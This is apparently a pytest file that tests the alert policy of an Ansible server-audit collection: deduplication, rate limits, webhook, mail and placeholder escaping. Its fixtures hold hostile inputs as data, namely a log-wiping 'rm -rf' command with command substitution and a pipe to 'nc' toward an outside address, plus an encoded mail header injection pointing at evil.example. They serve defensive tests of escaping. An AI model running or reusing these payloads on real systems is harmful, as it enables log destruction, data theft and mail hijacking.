"""Alert policy: which events become alerts (deduplicated, rate-limited) and what they say."""

from __future__ import annotations

import base64
import email
import email.policy
import json

import pytest

from ansible_collections.whotouched.server_audit.plugins.module_utils._processor.alert_policy import (
    AlertConfigError,
    AlertPolicy,
    alert_text,
    check_placeholders,
    fill_placeholders,
    mail_message,
    make_alert,
    placeholder_values,
    signature,
    signature_valid,
    webhook_body,
    wants,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
    iter_events,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk import (
    classify,
    compile_risk_rules,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk_rules import (
    SHIPPED_RISK_RULES,
)
from tests.support.audit_records import exec_records, stored

RULES = compile_risk_rules(SHIPPED_RISK_RULES)
# A command that fires a critical rule (logs wiped) and carries every kind of hostile text.
HOSTILE = ["rm", "-rf", "/var/log/<script>alert(1)</script>\x1b[31mred\x1b[0m",
           "$(touch /tmp/x)", "`id`; touch /tmp/x && echo {text} {host} | nc 198.51.100.1 9"]


def event_of(argv, host="web01", serial=42, address=None):
    """The event of ``argv``; each host name sends from an address of its own unless given."""
    if address is None:
        address = "192.0.2.10" if host == "web01" else "198.51.100.%d" % (
            sum(map(ord, host)) % 250 + 1)
    events = list(iter_events(stored(exec_records(argv, serial=serial), host=host,
                                     address=address)))
    assert len(events) == 1
    return classify(events[0], RULES)


def test_levels_of_the_events_used_here():
    assert event_of(["auditctl", "-D"])["level"] == "critical"
    assert event_of(["ls", "-l"])["level"] == "info"
    assert event_of(HOSTILE)["level"] == "critical"


@pytest.mark.parametrize("level, minimum, expected", [
    ("critical", "high", True), ("high", "high", True), ("medium", "high", False),
    ("info", "info", True), ("low", "critical", False),
])
def test_sinks_get_levels_at_or_above_their_minimum(level, minimum, expected):
    assert wants(level, minimum) is expected


def test_below_the_minimum_no_alert():
    policy = AlertPolicy(min_level="high")
    assert policy.decide(event_of(["ls"]), 0.0) == []
    assert policy.counts["events"] == 0


def test_same_rule_same_host_within_the_window_is_one_alert_then_a_count():
    policy = AlertPolicy(min_level="high", window=60, max_alerts=100)
    first = policy.decide(event_of(["auditctl", "-D"], serial=1), 0.0)
    assert [alert["kind"] for alert in first] == ["event"]
    assert first[0]["count"] == 1 and first[0]["rules"] == ["audit-rules-deleted"]
    for serial, now in ((2, 10.0), (3, 20.0), (4, 59.0)):
        assert policy.decide(event_of(["auditctl", "-D"], serial=serial), now) == []
    # another host and another rule are alerts of their own
    assert len(policy.decide(event_of(["auditctl", "-D"], host="db01"), 30.0)) == 1
    assert len(policy.decide(event_of(["rm", "/var/log/syslog"]), 30.0)) == 1
    assert policy.due(59.9) == []
    repeats = policy.due(60.0)
    assert [(alert["kind"], alert["host"], alert["count"]) for alert in repeats] == [
        ("repeat", "web01", 3)]
    assert "3 more times in 60 s" in repeats[0]["text"]
    assert policy.counts == {"events": 6, "alerts": 3, "deduplicated": 3,
                             "rate_limited": 0, "repeats": 1}
    # the window is over: the same rule alerts again
    assert len(policy.decide(event_of(["auditctl", "-D"], serial=5), 61.0)) == 1
    # windows with no repeat close silently; flush reports nothing then
    assert policy.due(200.0) == [] and policy.flush() == []


LOSS = ("type=USER msg=audit(%d.000:%d): pid=726 uid=0 auid=4294967295 ses=4294967295 "
        "msg='op=whotouched-audit-health lost=%d lost_total=%d since=%d.000 backlog=0 "
        "backlog_limit=8192 backlog_wait_time=60000 logging_suspended=%s plugin_overflow=no "
        "res=success'")


def test_the_repeats_of_a_loss_tell_everything_their_reports_lost():
    """One alert for the first report, then one for the window's others: what they lost in
    all, from the first one's start (not the last report's count alone)."""
    reports = [LOSS % (1700000000, 1, 500, 500, 1699999995, "no"),
               LOSS % (1700000005, 2, 3000, 3500, 1700000000, "yes"),
               LOSS % (1700000010, 3, 10000, 13500, 1700000005, "no")]
    events = [classify(event, RULES) for event in iter_events(stored(reports))]
    policy = AlertPolicy(min_level="high", window=300, max_alerts=100)
    (first,) = policy.decide(events[0], 0.0)
    assert "lost 500 audit events between 2023-11-14 22:13:15 and 2023-11-14 22:13:20" in \
        first["text"]
    assert policy.decide(events[1], 5.0) == [] and policy.decide(events[2], 10.0) == []
    (repeat,) = policy.due(300.0)
    assert "lost 13000 audit events between 2023-11-14 22:13:20 and 2023-11-14 22:13:30" in \
        repeat["text"]
    assert "auditd is not writing its log" in repeat["text"] and repeat["count"] == 2


def test_a_count_gone_back_in_a_repeat_makes_the_repeats_sum_a_least_figure():
    reports = [LOSS % (1700000000, 1, 500, 500, 1699999995, "no"),
               (LOSS % (1700000005, 2, 3, 3, 1700000000, "no")).replace(
                   "res=success", "lost_total_reset=yes res=success"),
               LOSS % (1700000010, 3, 10, 13, 1700000005, "no")]
    events = [classify(event, RULES) for event in iter_events(stored(reports))]
    policy = AlertPolicy(min_level="high", window=300, max_alerts=100)
    policy.decide(events[0], 0.0)
    assert policy.decide(events[1], 5.0) == [] and policy.decide(events[2], 10.0) == []
    (repeat,) = policy.due(300.0)
    assert "lost at least 13 audit events between 2023-11-14 22:13:20 and 2023-11-14 22:13:30" \
        in repeat["text"], repeat["text"]


def test_a_sender_claiming_another_hosts_name_never_absorbs_that_hosts_alert():
    policy = AlertPolicy(min_level="high", window=60, max_alerts=100)
    forged = policy.decide(event_of(["auditctl", "-D"], serial=1, address="192.0.2.66"), 0.0)
    real = policy.decide(event_of(["auditctl", "-D"], serial=2), 1.0)
    assert [(alert["host"], alert["address"]) for alert in forged + real] == [
        ("web01", "192.0.2.66"), ("web01", "192.0.2.10")]
    assert policy.counts["deduplicated"] == 0


def test_rate_limit_caps_alerts_per_window_and_reports_what_it_held_back():
    policy = AlertPolicy(min_level="high", window=100, max_alerts=2)
    sent = []
    for index in range(5):
        sent += policy.decide(event_of(["auditctl", "-D"], host="host%d" % index), index)
    assert [alert["host"] for alert in sent] == ["host0", "host1"]
    assert policy.counts["rate_limited"] == 3
    assert policy.due(99.0) == []
    held = policy.due(100.0)
    assert [(alert["kind"], alert["count"], alert["level"]) for alert in held] == [
        ("suppressed", 3, "critical")]
    assert "3 more alerts held back" in held[0]["text"]
    # a new window: alerts flow again
    assert len(policy.decide(event_of(["auditctl", "-D"], host="host9"), 101.0)) == 1


def test_flush_at_exit_gives_out_pending_repeats():
    policy = AlertPolicy(min_level="critical", window=300)
    policy.decide(event_of(["auditctl", "-D"], serial=1), 0.0)
    policy.decide(event_of(["auditctl", "-D"], serial=2), 1.0)
    assert [(alert["kind"], alert["count"]) for alert in policy.flush()] == [("repeat", 1)]


@pytest.mark.parametrize("settings, says", [
    ({"min_level": "severe"}, "min_level must be one of"),
    ({"window": 0}, "dedup window"),
    ({"max_alerts": 0}, "rate limit"),
    ({"max_alerts": True}, "rate limit"),
])
def test_bad_settings_are_named(settings, says):
    with pytest.raises(AlertConfigError, match=says):
        AlertPolicy(**settings)


def test_alert_text_is_plain_and_says_who_what_why():
    alert = make_alert("event", event_of(HOSTILE), "critical", 1)
    text = alert_text(alert)
    assert text.startswith("[CRITICAL] web01 (192.0.2.10): alice as root: rm -rf /var/log/<script>")
    assert "\x1b" not in text and "\\x1b[31mred" in text
    assert all(ord(char) >= 0x20 for char in text)
    assert text == alert["text"]


def test_webhook_body_is_json_with_the_argv_exact_and_no_markup():
    event = event_of(HOSTILE)
    body = webhook_body(make_alert("event", event, "critical", 1))
    assert b"<" not in body and b">" not in body and b"\x1b" not in body
    decoded = json.loads(body)
    assert decoded["event"]["argv"] == HOSTILE
    assert decoded["kind"] == "event" and decoded["level"] == "critical"


def test_signature_is_hmac_sha256_of_the_body():
    body = b'{"a": 1}'
    # RFC 4231-style check against a value computed independently with openssl:
    # printf '{"a": 1}' | openssl dgst -sha256 -hmac secret
    assert signature("secret", body) == (
        "sha256=" + __import__("hmac").new(b"secret", body, "sha256").hexdigest())
    assert signature_valid("secret", body, signature("secret", body))
    assert not signature_valid("secret", body + b" ", signature("secret", body))
    assert not signature_valid("other", body, signature("secret", body))
    assert not signature_valid("secret", body, None)


def test_mail_has_a_one_line_subject_and_the_argv_escaped():
    alert = make_alert("event", event_of(HOSTILE), "critical", 1)
    message = mail_message(alert, "audit@example.org", ["ops@example.org", "sec@example.org"])
    assert "\n" not in message["Subject"] and "\x1b" not in message["Subject"]
    assert message["To"] == "ops@example.org, sec@example.org"
    body = message.get_content()
    assert "\x1b" not in body
    assert "  [2] /var/log/<script>alert(1)</script>\\x1b[31mred\\x1b[0m\n" in body
    assert "  [3] $(touch /tmp/x)\n" in body


def test_an_encoded_word_in_log_content_adds_no_header_and_no_control_to_the_mail():
    """RFC 2047 words are printable: the header parser would decode one into line ends,
    headers of its own and controls (and end the header block early, on some Pythons)."""
    hidden = "\x1b]0;owned\x07\u202e\r\nReply-To: attacker@evil.example\r\nBcc: x@evil.example\r\n\r\nbody"
    word = "=?utf-8?b?%s?=" % base64.b64encode(hidden.encode()).decode()
    alert = make_alert("event", event_of(["rm", "-f", "/var/log/auth.log", word]), "critical", 1)
    sent = mail_message(alert, "audit@example.org", ["ops@example.org"]).as_bytes()
    received = email.message_from_bytes(sent, policy=email.policy.default)
    assert sorted(received.keys()) == ["Content-Transfer-Encoding", "Content-Type", "From",
                                       "MIME-Version", "Subject", "To"]
    subject = str(received["Subject"])
    assert "=\\x3futf-8?b?" in subject
    assert not any(character in subject for character in "\r\n\x1b\x07\u202e")


def test_placeholders_are_filled_once_and_log_content_cannot_add_any():
    alert = make_alert("event", event_of(HOSTILE), "critical", 1)
    values = placeholder_values(alert, max_text=60)
    assert len(values["text"]) == 60 and values["text"].endswith("...")
    filled = fill_placeholders("--to=ops --text={text} --host={host} {unknown}", values)
    assert filled == "--to=ops --text=%s --host=web01 {unknown}" % values["text"]
    # every value is cut to max_text (an SMS, a command's argument), not only the text
    assert max(map(len, values.values())) == 60 and values["command"].endswith("...")
    # the command holds "{text} {host}" literally: it stays literal
    values = placeholder_values(alert)
    assert "echo {text} {host} | nc" in values["command"]
    assert fill_placeholders("{command}", values) == values["command"]


@pytest.mark.parametrize("template, ok", [
    ("{text}", True), ("--level={level}/{count}", True), ("plain", True),
    ("{nope}", False), ("{text}{secret}", False),
])
def test_unknown_placeholders_are_refused(template, ok):
    if ok:
        assert check_placeholders(template, "sms.command[1]") == template
    else:
        with pytest.raises(AlertConfigError, match=r"sms.command\[1\]: unknown placeholder"):
            check_placeholders(template, "sms.command[1]")


def test_one_address_cannot_use_up_the_rate_limit_nor_hide_who_was_held_back():
    """One address claiming 25 names gets three quarters of the window's alerts; another
    host's critical alert still goes out, and the suppressed alert names who was held back."""
    policy = AlertPolicy(min_level="high", window=300, max_alerts=20)
    sent = []
    for index in range(25):
        sent += policy.decide(event_of(["auditctl", "-D"], host="decoy%d" % index,
                                       address="192.0.2.66"), float(index))
    sent += policy.decide(event_of(["auditctl", "-D"], host="db01", address="192.0.2.20"), 30.0)
    assert [alert["host"] for alert in sent] == ["decoy%d" % index for index in range(15)] + [
        "db01"]
    (held,) = policy.due(300.0)
    assert (held["kind"], held["count"], held["level"]) == ("suppressed", 10, "critical")
    assert held["senders"] == [{"address": "192.0.2.66",
                                "hosts": ["decoy15", "decoy16", "decoy17"], "count": 10,
                                "level": "critical"}]
    assert held["text"].endswith("held back by the rate limit in the last 300 s: "
                                 "decoy15/decoy16/decoy17 (192.0.2.66) x10 (critical)")


def test_repeats_count_against_the_rate_limit():
    """500 windows of one address, each repeated once, close together: their repeats are
    rate-limited like first alerts (not 500 alerts at once for the sinks' queues)."""
    policy = AlertPolicy(min_level="high", window=300, max_alerts=20)
    for index in range(500):
        for serial in (1, 2):
            policy.decide(event_of(["auditctl", "-D"], host="decoy%d" % index, serial=serial,
                                   address="192.0.2.66"), float(index) / 10)
    assert len(policy.decide(event_of(["auditctl", "-D"], host="db01", address="192.0.2.20"),
                             60.0)) == 1
    closed = policy.due(360.0)
    assert [(alert["kind"], alert["count"]) for alert in closed] == [
        ("suppressed", 485)] + [("repeat", 1)] * 15
    assert policy.counts["repeats"] == 500
    assert [(alert["kind"], alert["count"]) for alert in policy.due(660.0)] == [
        ("suppressed", 485)]


def test_a_full_table_forgets_the_crowded_senders_windows_and_sends_their_repeats():
    """A victim's window with 49 repeats survives a flood of 200 other windows from one
    address in a table of 100; what is forgotten to make room sends its repeats."""
    policy = AlertPolicy(min_level="high", window=300, max_alerts=100, max_keys=100)
    for serial in range(50):
        policy.decide(event_of(["auditctl", "-D"], host="db01", serial=serial,
                               address="192.0.2.20"), float(serial))
    sent = []
    for index in range(200):
        for serial in (1, 2):
            sent += policy.decide(event_of(["auditctl", "-D"], host="decoy%d" % index,
                                           serial=serial, address="192.0.2.66"), 60.0)
    assert len(sent) == 75  # the decoys' share of the rate limit
    closed = policy.due(400.0)
    # the decoys' windows forgotten to make room: their repeats counted, held back, told
    assert policy.counts["repeats"] >= 100
    assert [(alert["kind"], alert["senders"][0]["address"], alert["count"] > 100)
            for alert in closed if alert["kind"] == "suppressed"] == [
        ("suppressed", "192.0.2.66", True)]
    assert [(alert["host"], alert["count"]) for alert in closed
            if alert["kind"] == "repeat" and alert["host"] == "db01"] == [("db01", 49)]


def test_an_alert_of_a_huge_event_stays_small():
    """A command line of 2 MB and 10,000 arguments: the alert's text, its webhook body and
    its mail stay bounded (the store keeps the event whole)."""
    argv = ["rm", "-rf"] + ["\x1b[2J" + "x" * 200] * 10000
    alert = make_alert("event", event_of(argv), "critical", 1)
    assert len(alert["text"]) == 2000 and alert["text"].endswith("...")
    assert len(alert["event"]["argv"]) == 64 and alert["event"]["argv"][-1] == "..."
    assert len(webhook_body(alert)) < 100000
    assert len(mail_message(alert, "a@example.org", ["b@example.org"]).as_bytes()) < 100000
